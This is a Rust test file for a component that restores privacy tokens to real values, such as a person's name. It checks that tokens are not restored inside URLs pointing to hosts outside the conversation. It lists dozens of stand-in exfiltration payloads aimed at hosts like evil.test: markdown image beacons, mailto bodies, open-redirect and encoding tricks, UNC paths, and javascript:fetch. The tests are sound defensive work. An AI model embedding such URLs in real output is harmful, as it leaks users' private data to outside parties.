//! L12: a token stays inside a URL whose host the conversation did not bring.

use super::*;

fn restorer() -> (Arc<Restorer>, String) {
    let (mut map, token) = people();
    map.allow_hosts_of(
        "see https://Good.test:8443/page?x=1, (https://docs.test), http://[2001:db8::1]/, www.shop.test and \\\\files\\a",
    );
    (map.restorer(), token)
}

pub(super) fn check(template: &str, is_restored: bool, escape: Escape) {
    let (restorer, token) = restorer();
    let text = template.replace("{T}", &token).replace("{B}", bare(&token));
    let expected = if is_restored { template.replace("{T}", "Maria").replace("{B}", "Maria") } else { text.clone() };
    assert_eq!(restorer.restore(&text, escape), expected, "{template}");
    for len in [1, 2, 3, 7, 17] {
        assert_eq!(streamed(&restorer, &pieces(&text, len), escape), expected, "{template} in pieces of {len}");
    }
}

const FOREIGN: &[&str] = &[
    "https://evil.test/?e={T}",
    "https://evil.test/{T}",
    "HTTPS://EVIL.test/a/b?e={B}",
    "![x](https://evil.test/p.png?e={T})",
    "![x](https://evil.test/(a)?e={T})",
    "![x](<https://evil.test/ ?e={T}>)",
    "<img src=\"https://evil.test/ \n?e={T}\">",
    "<img src='//evil.test/?e={T}'>",
    "<img src=//evil.test/?e={T}>",
    "![x](//evil.test/{T})",
    "![x](\\\\evil.test/{T})",
    "![x](/\\evil.test/{T})",
    "https:evil.test/{T}",
    "https:/evil.test/{T}",
    "https:\\\\evil.test\\{T}",
    "https:\\/\\/evil.test\\/{T}",
    "https&colon;//evil.test/{T}",
    "https:&#47;&#47;evil.test/{T}",
    "https://good.test@evil.test/{T}",
    "https://evil.test\\@good.test/{T}",
    "https://good.test\\.evil.test/{T}",
    "https://good.test%2eevil.test/{T}",
    "https://good.test.evil.test/{T}",
    "https://user:{T}@good.test/",
    "https://{T}/",
    "https://{T}.evil.test/",
    "https://{B}.evil.test/",
    "https://{T}@evil.test/",
    "https://evil.test#{T}",
    "https://evil.test?{T}",
    "www.evil.test/?e={T}",
    "evil.test/?e={T}",
    "evil.test?e={T}",
    "evil.test:8080/{T}",
    "ftp://evil.test/{T}",
    "foo://evil.test/{T}",
    "data:text/html,{T}",
    "javascript:fetch(1,{T})",
    "https://good.test/r?u=https://evil.test/{T}",
    "https://[2001:db8::2]/{T}",
    "(https://evil.test/?a=1&b={T})",
    "\"https://evil.test/?e={T}\"",
    "https://evil.test/\\n?e={T}",
    "https://evil.test/&#32;?e={T}",
    "https://evil.test:good.test/{T}",
    "https://good.test&sol;.evil.test/{T}",
    "https://good.test%2F.evil.test/{T}",
    "https://good.test/r?u=https%3A%2F%2Fevil.test/{T}",
    "![x](https://evil.test/\\)?e={T})",
    "![x](https://evil.test/&#41;?e={T})",
    "Note:evil.test:80/{T}",
    "https://evil。com/{T}",
    "https://evil．com/{T}",
    "https://evil｡com?e={B}",
    "https://good.test。evil.com/{T}",
    "https://evil。{T}.com/",
    "www.evil。com/{T}",
    "\\\\evil\\{T}",
    "\\\\evil\\share\\{B}.txt",
    "(\\\\evil.test@SSL\\{T})",
    "\\\\1.2.3.4/{T}",
    "\\\\?\\UNC\\evil\\{T}",
    "1.2.3.4/{T}",
    "1.2.3.4:8080/{T}",
    "1.2.3.4?e={T}",
    "mailto:a@evil.com?body={T}",
    "MAILTO:a@evil.com?subject=x%20y&body={B}",
    "mailto&colon;a@evil.com?body={T}",
    "mailto:a@evil.com&quest;body={T}",
    "mailto:a@evil.com%3Fbody={T}",
    "[mail](mailto:a@evil.com?body=x {T})",
    "<mailto:a@evil.com?body={T}>",
    "<a href=\"mailto:a@evil.com?body=x {T}\">",
    "mailto:?to=a@evil.com&body={T}",
    "mailto://evil.com/{T}",
    "sms:+1555?body={T}",
    "tel:+1555#{T}",
];

#[test]
fn tokens_stay_in_urls_of_foreign_hosts() {
    for template in FOREIGN {
        check(template, false, Escape::Text);
        check(&format!("Look: {template} "), false, Escape::Text);
    }
}

/// A redirect of an allowed host may follow what its URL carries.
#[test]
fn tokens_stay_where_a_url_of_an_own_host_carries_another_host() {
    let carrying = [
        "https://good.test/redirect?u=//evil.com/{T}",
        "https://good.test/redirect?u=%2F%2Fevil.com%2F{T}",
        "https://good.test/redirect?u=%2f%2fevil.com?e={T}",
        "https://good.test/redirect?u=%252F%252Fevil.com%252F{T}",
        "https://good.test/redirect?u=evil.com/{T}",
        "https://good.test/redirect?u=evil.com%2F{B}",
        "https://good.test/redirect?u=evil%2Ecom/{T}",
        "https://good.test/redirect?u=ev%69l.c%6Fm/{T}",
        "https://good.test/redirect?u=evil.com:8080/{T}",
        "https://good.test/redirect?u=evil.com%3Fe={T}",
        "https://good.test/redirect?u=evil.com#{T}",
        "https://good.test/redirect?u=a@evil.com/{T}",
        "https://good.test/redirect?u=1.2.3.4/{T}",
        "https://good.test/redirect?u=/\\evil.com/{T}",
        "https://good.test/redirect?u=/%09/evil.com/{T}",
        "https://good.test/redirect?u=https:/evil.com/{T}",
        "https://good.test/redirect?u=https:evil.com/{T}",
        "https://good.test/redirect?u=https%3Aevil.com%2F{T}",
        "https://good.test/redirect?evil.com/{T}",
        "https://good.test/redirect#evil.com/{T}",
        "https://good.test//evil.com/{T}",
        "https://good.test/go/https:/evil.com/{T}",
        "//good.test//evil.com/{T}",
        "good.test/?u=evil.com/{T}",
        "www.shop.test/?u=//evil.com/{T}",
        "![x](https://good.test/?u=evil。com/{T})",
        "<img src=\"https://good.test/?u=//evil.com/{T}\">",
    ];
    for template in carrying {
        check(template, false, Escape::Text);
        check(&format!("Look: {template} "), false, Escape::Text);
    }
    check(r#"{"url":"https:\/\/good.test\/?u=\/\/evil.com\/{T}"}"#, false, Escape::JsonString);
    check(r#"{"url":"https://good.test/?u=evil.com/{T}"}"#, false, Escape::JsonString);
}

#[test]
fn an_address_takes_a_value_but_its_query_does_not() {
    let (restorer, token) = restorer();
    let restored = restorer.restore(&format!("mailto:{token}?body={token}, {token}"), Escape::Text);
    assert_eq!(restored, format!("mailto:Maria?body={token}, Maria"));
}

#[test]
fn a_wide_dot_behind_a_host_ends_a_sentence_or_goes_on_with_the_host() {
    assert_eq!(hosts_in("官网https://good.test。请看"), ["good.test", "good.test.请看"]);
    assert_eq!(hosts_in("https://good。test/"), ["good.test"]);
    let mut map = map();
    let token = map.mint(Label::PERSON, "Maria", true).to_string();
    map.allow_hosts_of("https://good.test/");
    let restored = map.restorer().restore(&format!("https://good。test/{token}"), Escape::Text);
    assert_eq!(restored, "https://good。test/Maria");
}

#[test]
fn a_value_may_be_part_of_the_host_that_a_url_carries() {
    let (restorer, token) = restorer();
    let text = format!("https://good.test/?u={token}.evil.com/{token}");
    let expected = format!("https://good.test/?u=Maria.evil.com/{token}");
    assert_eq!(restorer.restore(&text, Escape::Text), expected);
    for len in [1, 2, 3, 7, 17] {
        assert_eq!(streamed(&restorer, &pieces(&text, len), Escape::Text), expected);
    }
}

#[test]
fn tokens_are_restored_in_urls_of_the_conversations_hosts() {
    let own = [
        "https://good.test/?e={T}",
        "https://GOOD.test./?e={B}&f={T}",
        "https://good.test:9/{T}",
        "http://[2001:db8::1]/{T}",
        "![x](https://good.test/?e={T})",
        "www.shop.test/{T}",
        "//good.test/{T}",
        "good.test/{T}",
        "https://docs.test/{T}",
        "\\\\FILES\\home\\{T}\\{B}.txt",
        "\\\\good.test\\{T}",
        "https://good.test/index.html?e={T}#{T}",
        "https://good.test/v1.2/users/{T}/files/{B}.txt",
        "https://good.test/?version=1.2/{T}",
        "https://good.test/?next=/account/{T}",
        "https://good.test/?off=10%25&to={T}%20{T}&mail=a.b@{T}",
        "https://good.test/?time=10:30&q=a:{T}",
    ];
    for template in own {
        check(template, true, Escape::Text);
    }
}

#[test]
fn tokens_are_restored_where_no_url_is() {
    let plain = [
        "https://evil.test/ {T}",
        "https://evil.test/\n{T}",
        "<https://evil.test/>{T}",
        "[a](https://evil.test/){T}",
        "\"https://evil.test/\",\"{T}\"",
        "`https://evil.test/`{T}",
        "官网https://evil.test，{T}",
        "mailto:{T}",
        "tel:{T}",
        "mailto:{T},{B}",
        "tel:+1{T}",
        "Tel: {T}? Or {T}?",
        "[see {B}](mailto:{T}), {T}?",
        "a\n\\\\[{T}] {T}",
        "\\\\(x_{T}\\\\)",
        "<a href=\"mailto:{T}\">{T}</a>? {T}",
        "官网https://evil.test/。{T}",
        "1.2.3/{T}",
        "300.1.2.3/{T}",
        "a \\\\ {T}",
        "x\\\\hline {T}",
        "C:\\\\Users\\\\{T}",
        "someone@evil.test/{T}",
        "and/or {T}",
        "{T}/{T}",
        "Note: {T}",
        "// {T}",
        "1.5/{T}",
        "a://",
        "Is it? {T} #{T}",
        "e.g. {T}...",
        "C:\\{T}",
    ];
    for template in plain {
        check(template, true, Escape::Text);
    }
}

/// Tool arguments: a string that starts as a URL is one, spaces or not.
#[test]
fn a_json_string_that_is_a_url_ends_with_the_string() {
    check("{\"url\":\"https://evil.test/ ?e={T}\",\"n\":1}", false, Escape::JsonString);
    check("{\"url\":\"https:\\/\\/evil.test\\/?q=\\\"{T}\"}", false, Escape::JsonString);
    check("{\"h\":\"<img src=\\\"https://evil.test/ ?e={T}\\\">\"}", false, Escape::JsonString);
    check("{\"h\":\"<img src=\\\"https://evil.test/\\\">{T}\"}", true, Escape::JsonString);
    check("{\"url\":\"https:\\/\\/good.test\\/?q={T}\"}", true, Escape::JsonString);
    check(r#"{"pattern":"\\d {T}"}"#, true, Escape::JsonString);
    check(r#"{"path":"C:\\Users\\{T}"}"#, true, Escape::JsonString);
    check(r#"{"path":"\\\\evil.test\\{T}"}"#, false, Escape::JsonString);
    check("{\"url\":\"see https://evil.test/\",\"name\":\"{T}\"}", true, Escape::JsonString);
    check("{\"url\":\"https://good.test/?e={T}\"}", true, Escape::JsonString);
}

#[test]
fn a_url_that_is_itself_a_value_comes_back_but_draws_no_other_value_along() {
    let mut map = map();
    map.allow_hosts_of("https://good.test/");
    let evil = map.mint(Label::URL, "https://evil.test/a", true).to_string();
    let good = map.mint(Label::URL, "https://good.test/a", true).to_string();
    let name = map.mint(Label::PERSON, "Maria", true).to_string();
    let restorer = map.restorer();
    let restore = |text: &str| restorer.restore(text, Escape::Text);
    assert_eq!(restore(&format!("See {evil}, {name}")), "See https://evil.test/a, Maria");
    assert_eq!(restore(&format!("![x]({evil}?e={name})")), format!("![x](https://evil.test/a?e={name})"));
    assert_eq!(restore(&format!("{good}?e={name}")), "https://good.test/a?e=Maria");
    assert_eq!(restore(&format!("{evil}{name}")), format!("https://evil.test/a{name}"));
}
